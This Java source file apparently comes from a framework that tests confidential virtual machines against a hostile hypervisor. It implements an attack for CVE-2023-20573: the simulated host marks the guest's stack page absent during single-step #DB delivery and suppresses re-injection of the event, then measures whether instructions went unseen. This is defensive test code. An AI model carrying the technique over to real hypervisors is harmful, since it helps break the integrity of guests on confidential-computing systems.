package dev.vesper.cli.attack;

import dev.vesper.ghcb.ExitCode;
import dev.vesper.machine.Machine;
import dev.vesper.machine.Stop;
import dev.vesper.machine.Until;
import dev.vesper.machine.VcpuView;
import dev.vesper.machine.host.Exit;
import dev.vesper.machine.host.NestedPaging;
import java.util.List;

/** A guest that steps itself loses a step: the host keeps its #DB. */
final class LostStep {
  private static final int INTERCEPTS = 0x08;
  private static final int EXITINTINFO = 0x88;
  private static final long VALID = 1L << 31;
  private static final int DEBUG = 1;
  private static final int PAGE = 4096;
  private static final int STEPS = 12;

  /** The step that is to be lost. */
  private static final int NUMBER = 4;

  /** Instructions of the handler, IRET among them. */
  private static final int HANDLER = 6;

  private static final String MAIN =
      """
      mov rdi, idt+16
      mov rax, on_step
      call setgate
      mov r13, scratch
      pushfq
      or qword [rsp], 0x100
      popfq
      nop
      nop
      nop
      nop
      nop
      nop
      nop
      nop
      nop
      nop
      nop
      nop
      nop
      nop
      jmp made_end
      on_step:
      push rax
      mov rax, [rsp+8]
      mov [r13], rax
      add r13, 8
      pop rax
      iretq
      """;

  private LostStep() {}

  static List<Attack> all() {
    return List.of(
        Attack.lawful(
            "db-loss",
            "the delivery of #DB is interrupted by a nested page fault, and #DB is not injected"
                + " again",
            "CVE-2023-20573",
            "the guest steps itself by TF: the reference guest with instructions that do",
            "the handler of #DB has seen all instructions but one",
            LostStep::carryOut));
  }

  private static Verdict carryOut(AttackRun run) {
    if (run.target().kind() != Target.Kind.LOCORE) {
      return Verdict.notApplicable("nothing in this guest steps itself by TF");
    }
    List<Long> good;
    long stack;
    long at;
    try (Trial t = stepping(run)) {
      Machine m = t.machine();
      for (int i = 0; i < NUMBER; i++) {
        if (!(m.run(Until.symbol("on_step").or(MadeGuests.end())) instanceof Stop.Breakpoint)) {
          return Verdict.notApplicable("the guest does not step itself");
        }
      }
      VcpuView v = m.observer().current();
      stack = v.physical(v.gpr(VcpuView.RSP)) & -PAGE;
      at = m.instructions() + HANDLER;
      m.run(MadeGuests.end());
      good = MadeGuests.kept(m, STEPS);
    }
    try (Trial t = stepping(run)) {
      Machine m = t.machine();
      NestedPaging nested = m.hypervisor().nested();
      m.hypervisor().at(at, e -> nested.set(stack, NestedPaging.Mapping.ABSENT));
      m.hypervisor()
          .onExit(
              ExitCode.NPF,
              (exit, profile) -> {
                if ((exit.info2() & -PAGE) != stack) {
                  profile.run();
                  return;
                }
                keep(exit, t);
                nested.set(stack, NestedPaging.Mapping.PRESENT);
              });
      m.run(MadeGuests.end());
      return judge(t, good, MadeGuests.kept(m, STEPS));
    }
  }

  /** {@return a run whose host lets #DB reach the guest by itself} */
  private static Trial stepping(AttackRun run) {
    Trial t = MadeGuests.trial(run, MAIN, b -> b);
    t.machine()
        .hypervisor()
        .at(0, exit -> exit.vmcb().set(INTERCEPTS, exit.vmcb().get(INTERCEPTS) & ~(1L << DEBUG)));
    return t;
  }

  /** The host keeps the event for itself. */
  private static void keep(Exit exit, Trial t) {
    long event = exit.vmcb().get(EXITINTINFO);
    if ((event & VALID) != 0 && (event & 0xFF) == DEBUG) {
      exit.vmcb().set(EXITINTINFO, 0);
      t.lied(exit);
    }
  }

  private static Verdict judge(Trial t, List<Long> good, List<Long> seen) {
    if (t.lies() == 0) {
      return Verdict.notApplicable("no delivery of #DB is interrupted");
    }
    long lost = good.stream().filter(rip -> !seen.contains(rip)).count();
    return lost > 0
        ? Verdict.limit(
            "has executed an instruction that it has not seen",
            "a processor that swaps debug registers closes it",
            "#DB has come for " + (STEPS - lost) + " of " + STEPS + " instructions")
        : Verdict.defended("has seen each instruction");
  }
}
